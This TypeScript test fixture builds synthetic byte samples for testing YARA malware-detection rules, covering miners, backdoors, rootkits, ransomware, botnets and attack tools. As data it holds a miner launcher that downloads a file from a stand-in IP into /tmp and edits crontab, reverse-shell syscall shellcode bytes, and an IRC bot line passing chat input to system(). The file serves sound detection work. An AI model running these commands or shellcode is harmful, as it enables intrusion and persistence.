/** Files that YARA rules are to know, put together when a test runs; none is a program. */
const elf = (type: number, ...texts: string[]): Buffer => {
  const head = Buffer.alloc(64);
  head.write('\x7fELF\x02\x01\x01', 0, 'latin1');
  head.writeUInt16LE(type, 16);
  return Buffer.concat([head, ...texts.map((text) => Buffer.from(`${text}\0`, 'utf8'))]);
};
const p = (...parts: string[]): string => parts.join('');

/** By rule. */
export const signatureSamples: Readonly<Record<string, Buffer>> = {
  miner_xmrig_program: elf(2, p('XM', 'Rig 6.0'), p('donate', '-level'), p('random', 'x'), p('stratum', '+tcp://')),
  miner_settings: Buffer.from(`{"autosave":true,"${p('don', 'ate-level')}":0,"${p('po', 'ols')}":[{"algo":"x","url":"pool.invalid:3333","rig-id":"a"}]}`),
  miner_starter_script: Buffer.from(`#!/bin/sh\npkill -9 ${p('xm', 'rig')}\ncurl -s http://198.51.100.7/x -o /tmp/x\n(${p('cron', 'tab')} -l) | crontab -\n`),
  backdoor_reverse_shell_program: Buffer.concat([elf(2), Buffer.from(['6a29586a025f0f05', '6a2a5848890f05', '6a21580f05', '6a3b58990f05'].join(''), 'hex'), Buffer.from(p('/bin', '/sh'))]),
  backdoor_shell_relay_program: elf(2, 'dup2', 'connect', 'execve', p('/bin', '/sh'), p('HIST', 'FILE=/dev/null')),
  packed_altered_upx: elf(2, p('$Info: This file is packed with the ', 'UPX executable packer'), 'YTS!'),
  rootkit_preloaded_library: elf(3, 'dlsym', 'readdir', 'readdir64', p('/etc/ld.so', '.preload'), '/proc/net/tcp'),
  rootkit_kernel_module: elf(1, p('verm', 'agic=6.1'), '__x64_sys_getdents64', p('kallsyms', '_lookup_name'), p('hide', '_pid'), 'commit_creds'),
  ransom_note: Buffer.from(`All your ${p('fi', 'les')} were ${p('encr', 'ypted')}. Send 1 ${p('bit', 'coin')}. Use ${p('Tor', ' Browser')}. Do not rename them.`),
  ransom_encryptor_program: elf(2, p('HOW_TO', '_RESTORE.txt'), p('.on', 'ion'), '.vmdk', p('esxcli vm', ' process kill')),
  botnet_flooder_program: elf(2, p('/bin/', 'busybox'), '/dev/watchdog', p('TSource', ' Engine Query'), '/proc/net/tcp'),
  botnet_irc_script: Buffer.from(`#!/usr/bin/perl\nuse ${p('IO::', 'Socket')};\n$0 = "httpd";\nprint $s "NICK a\\n"; print $s "JOIN #a\\n"; if (/${p('PRIV', 'MSG')}/) { system("$1"); }\n`),
  tool_tunnel_program: elf(2, p('github.com/fatedier', '/frp/client')),
  tool_scanner_program: elf(2, p('shadow1ng', '/fscan')),
  tool_command_and_control: elf(2, p('github.com/bishopfox', '/sliver/implant')),
  tool_log_cleaner: elf(2, '/var/run/utmp', '/var/log/wtmp', '/var/log/lastlog', p('zap', 'ped entry')),
  tool_privilege_exploit: elf(2, p('GCONV', '_PATH=.'), p('pk', 'exec')),
};

/** A program with the words of a hiding library: it names the loader where it begins. */
export const likeRootkit = elf(3, '/lib64/ld-linux-x86-64.so.2', 'dlsym', 'readdir', 'readdir64', p('/etc/ld.so', '.preload'), '/proc/net/tcp');
